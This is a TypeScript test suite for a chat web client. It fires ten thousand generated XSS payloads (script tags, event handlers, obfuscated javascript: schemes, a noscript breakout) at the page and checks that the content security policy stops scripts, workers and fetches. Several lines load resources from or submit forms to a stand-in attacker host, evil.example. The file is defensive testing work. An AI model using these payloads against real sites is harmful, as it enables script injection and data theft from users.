// Attack C2: somebody writes what a browser would run, fetch or be led astray by. Ten thousand times, and nothing happens.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { begin, bubble, joins, say, Stage } from "./stage.js";

let stage: Stage;
before(async () => {
  stage = await Stage.open();
});
after(() => stage.close());

const PAYLOADS = 10_000;
/** So many in a message: below the bounds of a tree, beyond which text is only cut. */
const IN_A_MESSAGE = 250;

const RUN = "globalThis.hit=1";
const TAGS = ["img", "svg", "iframe", "video", "body", "input", "object", "math", "details", "marquee"];
const HANDLERS = ["onerror", "onload", "ontoggle", "onfocus", "onbegin", "onmouseover"];
const SCHEMES = ["javascript:", "JaVaScRiPt:", "java&#115;cript:", "data:text/html,", "vbscript:", "blob:", "\u0001javascript:", "file:///"];

const SHAPES: ((at: number) => string)[] = [
  (at) => `<${pick(TAGS, at)} src=x ${pick(HANDLERS, at)}=${RUN} autofocus>`,
  (at) => `<script>${RUN}//${at}</script>`,
  (at) => `[a](${pick(SCHEMES, at)}${RUN})`,
  (at) => `![a](https://evil.example/${at}.png "t${pick(HANDLERS, at)}=${RUN}")`,
  (at) => `<${pick(SCHEMES, at)}${RUN}>`,
  (at) => `[a]: ${pick(SCHEMES, at)}${RUN}\n\n[a]`,
  (at) => `\`\`\`"><${pick(TAGS, at)} ${pick(HANDLERS, at)}=${RUN}>\n</code></pre><script>${RUN}</script>\n\`\`\``,
  (at) => `<style>@import "https://evil.example/${at}.css"</style><link rel=stylesheet href=https://evil.example/${at}>`,
  (at) => `<a href="${pick(SCHEMES, at)}${RUN}">x</a><form action=https://evil.example/${at}><button>`,
  () => `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
];

function pick<T>(of: T[], at: number): T {
  return of[at % of.length] as T;
}

test("c2 ten thousand payloads run nothing, fetch nothing and lead nowhere", async () => {
  const mallory = stage.person("mallory");
  const browser = stage.browser("ann-browser");
  const page = await browser.start();
  const foreign: string[] = [];
  page.on("request", (request) => request.url().startsWith(stage.origin) || foreign.push(request.url()));
  page.on("dialog", (dialog) => foreign.push(dialog.message()));
  await joins(page, stage.invite(), "ann");
  await begin(page, "mallory");
  await say(page, "well?");
  await bubble(page, "well?", "Sent").waitFor();
  mallory.run("tail");
  const all = Array.from({ length: PAYLOADS }, (_, at) => pick(SHAPES, at)(Math.floor(at / SHAPES.length)));
  for (let from = 0; from < PAYLOADS; from += IN_A_MESSAGE) {
    mallory.run("send", "--markdown", "@ann", `m${from} ${all.slice(from, from + IN_A_MESSAGE).join("\n\n")}`);
  }
  await bubble(page, `m${PAYLOADS - IN_A_MESSAGE} `).waitFor({ timeout: 120_000 });

  const found = await page.evaluate(() => ({
    hit: "hit" in globalThis,
    text: document.querySelector(".lines")?.textContent ?? "",
    elements: document.querySelectorAll(".text :is(img, svg, iframe, video, input, object, script, style, link, form, button, math)").length,
    targets: [...document.querySelectorAll<HTMLAnchorElement>(".text a")].map((link) => link.protocol),
  }));
  assert.equal(found.hit, false);
  assert.equal(found.elements, 0);
  assert.deepEqual(foreign, []);
  assert.deepEqual(browser.complaints, []);
  assert.ok(found.text.split("globalThis.hit=1").length > PAYLOADS / 2, "the control: the payloads are on the page, as text");
  assert.ok(found.targets.every((protocol) => ["http:", "https:", "mailto:"].includes(protocol)), "links lead to the web or to mail");
  assert.ok(found.targets.length > 100, "the control: there are links");
  browser.kill();
});

test("c2 the policy is what stops a script, should one ever get onto the page", async () => {
  const browser = stage.browser("eve-browser");
  const page = await browser.start();
  await page.getByLabel("Invite").waitFor();
  const ran = await page.evaluate(async () => {
    const attempts: Record<string, () => unknown> = {
      inline: () => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='globalThis.hit=1'>"),
      script: () => {
        const script = document.createElement("script");
        script.textContent = "globalThis.hit=1";
        document.body.append(script);
      },
      evaluated: () => new Function("globalThis.hit=1")(),
      worker: () => new Worker("https://evil.example/worker.js"),
      policy: () => (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): object } }).trustedTypes.createPolicy("mine", {}),
    };
    const succeeded: string[] = [];
    // What the debugger runs itself is not under the policy; what a timer runs is.
    const attemptAll = () => {
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          attempt();
          succeeded.push(name);
        } catch {
          // The policy has spoken.
        }
      }
    };
    await new Promise<void>((resolve) => setTimeout(() => { attemptAll(); resolve(); }, 10));
    const fetched = await fetch("https://evil.example/").then(() => true, () => false);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { succeeded, fetched, hit: "hit" in globalThis, isolated: crossOriginIsolated };
  });
  assert.deepEqual(ran, { succeeded: [], fetched: false, hit: false, isolated: true });
  browser.kill();
});
